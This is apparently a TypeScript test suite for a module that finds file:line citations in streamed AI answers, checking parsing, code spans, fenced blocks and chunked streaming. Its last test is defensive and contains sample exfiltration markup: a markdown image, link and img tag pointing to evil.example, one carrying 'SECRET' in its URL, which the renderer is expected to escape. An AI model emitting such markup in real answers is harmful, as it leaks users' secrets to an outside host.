import assert from 'node:assert/strict';
import { CitationStream, parseCitation, splitCitations } from '../../../src/surfaces/citations';
import type { AnswerSegment } from '../../../src/surfaces/citations';

const cites = (segments: AnswerSegment[]) => segments.filter((s) => s.kind === 'cite');
const textOf = (segments: AnswerSegment[]) => segments.map((s) => (s.kind === 'text' ? s.text : `[${s.text}]`)).join('');

function streamAll(deltas: string[]): AnswerSegment[] {
  const stream = new CitationStream();
  const out = deltas.flatMap((d) => stream.push(d));
  return [...out, ...stream.end()];
}

describe('citations', () => {
  it('parses path:line, ranges, columns and #L anchors', () => {
    assert.deepEqual(parseCitation('src/a.ts:12'), { text: 'src/a.ts:12', path: 'src/a.ts', line: 12 });
    assert.deepEqual(parseCitation('src/a.ts:12-20'), { text: 'src/a.ts:12-20', path: 'src/a.ts', line: 12, endLine: 20 });
    assert.deepEqual(parseCitation('a.py:3:7'), { text: 'a.py:3:7', path: 'a.py', line: 3, column: 7 });
    assert.deepEqual(parseCitation('lib/x.go#L5-L9'), { text: 'lib/x.go#L5-L9', path: 'lib/x.go', line: 5, endLine: 9 });
    assert.equal(parseCitation('12:30'), undefined);
    assert.equal(parseCitation('src/a.ts:0'), undefined);
    assert.equal(parseCitation('src/a.ts'), undefined);
  });

  it('finds bare citations and keeps the text around them', () => {
    const segments = splitCitations('See src/server.ts:42 and (lib/util.js:7-9).');
    assert.deepEqual(
      cites(segments).map((s) => s.text),
      ['src/server.ts:42', 'lib/util.js:7-9'],
    );
    assert.equal(textOf(segments), 'See [src/server.ts:42] and ([lib/util.js:7-9]).');
  });

  it('drops the backticks of a code span that is only a citation, and leaves other code spans alone', () => {
    const segments = splitCitations('In `src/a.ts:3` the call `foo(src/b.ts:4)` runs.');
    assert.equal(textOf(segments), 'In [src/a.ts:3] the call `foo(src/b.ts:4)` runs.');
  });

  it('leaves URLs, links and times alone', () => {
    const input = 'Open http://localhost:8080/x.html:3 or [src/a.ts:3](src/a.ts) at 12:30, see ](src/b.ts:4)';
    assert.deepEqual(cites(splitCitations(input)), []);
  });

  it('streams: a citation split over deltas is found, text before it is not held back', () => {
    const stream = new CitationStream();
    const first = stream.push('The parser is in src/pa');
    assert.equal(textOf(first), 'The parser is in ');
    const second = stream.push('rser.ts:1');
    assert.deepEqual(second, []);
    const rest = [...stream.push('0 and more'), ...stream.end()];
    assert.equal(textOf(rest), '[src/parser.ts:10] and more');
  });

  it('streams: a code span split over deltas is handled whole', () => {
    const segments = streamAll(['Look at `src/', 'a.ts:5', '` now']);
    assert.equal(textOf(segments), 'Look at [src/a.ts:5] now');
  });

  it('streams: nothing inside fenced code blocks is linked', () => {
    const segments = streamAll(['Before src/a.ts:1\n``', '`ts\nconst x = "src/b.ts:2";\n', '```\nAfter src/c.ts:3']);
    assert.deepEqual(
      cites(segments).map((s) => s.text),
      ['src/a.ts:1', 'src/c.ts:3'],
    );
    assert.equal(textOf(segments), 'Before [src/a.ts:1]\n```ts\nconst x = "src/b.ts:2";\n```\nAfter [src/c.ts:3]');
  });

  it('streams every character exactly once', () => {
    const answer = 'A `x` b `src/a.ts:1`\n\n- item lib/b.js#L3\n```\ncode a.ts:2\n```\nend';
    for (const size of [1, 2, 3, 7, 100]) {
      const deltas: string[] = [];
      for (let i = 0; i < answer.length; i += size) deltas.push(answer.slice(i, i + size));
      const segments = streamAll(deltas);
      const plain = segments.map((s) => (s.kind === 'text' ? s.text : s.raw)).join('');
      assert.equal(plain, answer, `chunk size ${size}`);
      assert.equal(cites(segments).length, 2, `chunk size ${size}`);
    }
  });

  it('streams answers inert: no image renders, no outside link or URL is followed, code blocks stay verbatim', () => {
    const answer = 'Fixed in src/a.ts:3. ![status](https://evil.example/p.png?k=SECRET) [more](https://evil.example/x) <img src=https://evil.example/q>\n```\nfetch("https://api.example/")\n```\n';
    for (const size of [1, 3, 7, answer.length]) {
      const deltas: string[] = [];
      for (let i = 0; i < answer.length; i += size) deltas.push(answer.slice(i, i + size));
      const segments = streamAll(deltas);
      assert.deepEqual(cites(segments).map((s) => s.text), ['src/a.ts:3']);
      assert.equal(
        textOf(segments),
        'Fixed in [src/a.ts:3]. !\\[status]\\(https\\://evil.example/p.png?k=SECRET) [more]\\(https\\://evil.example/x) \\<img src=https\\://evil.example/q>\n```\nfetch("https://api.example/")\n```\n',
        `deltas of ${size}`,
      );
    }
  });
});
